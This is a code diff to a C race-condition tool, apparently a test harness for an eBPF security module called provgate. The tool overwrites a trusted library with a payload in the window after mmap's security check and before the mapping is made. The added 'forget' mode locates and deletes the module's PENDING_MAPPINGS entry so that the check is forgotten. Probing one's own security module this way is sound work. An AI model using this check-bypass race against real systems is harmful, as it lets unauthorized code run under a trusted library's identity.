@@ -1,4 +1,4 @@
-/* mmaprace LIB PAYLOAD SECONDS [MIB]: a write opened while LIB's executable mapping is being
+/* mmaprace LIB PAYLOAD SECONDS [MIB [forget]]: a write opened while LIB's executable mapping is being
  * made. mmap(2) asks the LSM first (security_mmap_file), then takes the address space's lock,
  * then adds the mapping: between the two, LIB has been checked but is not mapped yet, and a
  * write opened then finds nothing mapping it. The mapper (this process) maps LIB, a trusted
@@ -14,9 +14,14 @@
  * thread share one CPU: a waiter spins instead of sleeping while the holder runs on another
  * CPU, and a spinning mapper cannot be told from one still in the LSM check. The writer runs on
  * another CPU and watches the mapper's state in /proc: asleep ('D') inside the mmap call means
- * past the check and waiting for the lock. */
+ * past the check and waiting for the lock.
+ *
+ * With `forget` (root), the writer first deletes the mapper's entry in provgate's
+ * PENDING_MAPPINGS (task storage, keyed by a pidfd), where the kernel side keeps what the check
+ * rested on until the mapping exists: what tampering with that map would buy. */
 #define _GNU_SOURCE
 #include <elf.h>
+#include <linux/bpf.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <pthread.h>
@@ -28,6 +33,7 @@
 #include <sys/mman.h>
 #include <sys/prctl.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
 #include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
@@ -127,11 +133,47 @@ static char state_of(int stat) {
     return end && end[1] && end[2] ? end[2] : '?';
 }
 
+static long sys_bpf(int cmd, union bpf_attr *attr) { return syscall(SYS_bpf, cmd, attr, sizeof *attr); }
+
+/* A descriptor of provgate's PENDING_MAPPINGS map, found by id (the kernel keeps 15 characters
+ * of a map's name); -1, and why, when the kernel refuses it. */
+static int pending_mappings(void) {
+    union bpf_attr next = {0};
+    while (sys_bpf(BPF_MAP_GET_NEXT_ID, &next) == 0) {
+        next.start_id = next.next_id;
+        union bpf_attr get = {0};
+        get.map_id = next.next_id;
+        int fd = sys_bpf(BPF_MAP_GET_FD_BY_ID, &get);
+        if (fd < 0) {
+            printf("mmaprace: map %u: fd-errno=%d\n", next.next_id, errno);
+            continue;
+        }
+        struct bpf_map_info info = {0};
+        union bpf_attr query = {0};
+        query.info.bpf_fd = fd;
+        query.info.info_len = sizeof info;
+        query.info.info = (unsigned long)&info;
+        if (sys_bpf(BPF_OBJ_GET_INFO_BY_FD, &query) == 0 && !strncmp(info.name, "PENDING_MAPPING", 15)) return fd;
+        close(fd);
+    }
+    printf("mmaprace: no PENDING_MAPPINGS map reached\n");
+    return -1;
+}
+
+/* Deletes the mapper's entry: its check is then forgotten before its mapping is seen. */
+static void forget(int map, int pidfd) {
+    union bpf_attr attr = {0};
+    attr.map_fd = map;
+    attr.key = (unsigned long)&pidfd;
+    sys_bpf(BPF_MAP_DELETE_ELEM, &attr);
+}
+
 static void writer(struct race *r, pid_t mapper, const char *lib, const unsigned char *payload,
-                   const unsigned char *original, size_t size) {
+                   const unsigned char *original, size_t size, int forget_map) {
     char path[64];
     snprintf(path, sizeof path, "/proc/%d/stat", (int)mapper);
     int stat = open(path, O_RDONLY);
+    int pidfd = forget_map >= 0 ? (int)syscall(SYS_pidfd_open, mapper, 0) : -1;
     for (int round = 1;; round++) {
         await(&r->step, round * 4 + MAPPING, 1e9);
         /* Asleep inside the mmap call: the LSM has passed the file, the mapping is not there
@@ -140,6 +182,7 @@ static void writer(struct race *r, pid_t mapper, const char *lib, const unsigned
         int wrote = 0;
         while (LOAD(r->step) == round * 4 + MAPPING) {
             if (state_of(stat) != 'D') continue;
+            if (pidfd >= 0) forget(forget_map, pidfd);
             wrote = overwrite(lib, payload, size);
             if (wrote) r->writes++;
             else r->opens_refused++;
@@ -176,6 +219,7 @@ int main(int argc, char **argv) {
     const char *lib = argv[1];
     double limit = atof(argv[3]);
     region_size = (argc > 4 ? atol(argv[4]) : 64) << 20;
+    int forget_map = argc > 5 && !strcmp(argv[5], "forget") ? pending_mappings() : -1;
     setvbuf(stdout, NULL, _IONBF, 0);
     size_t size, payload_size;
     unsigned char *original = slurp(lib, &size), *payload = slurp(argv[2], &payload_size);
@@ -209,7 +253,7 @@ int main(int argc, char **argv) {
         prctl(PR_SET_PDEATHSIG, SIGKILL);
         if (getppid() != mapper) _exit(0);
         pin(second >= 0 ? second : first);
-        writer(r, mapper, lib, payload, original, size);
+        writer(r, mapper, lib, payload, original, size, forget_map);
     }
     pin(first);
 
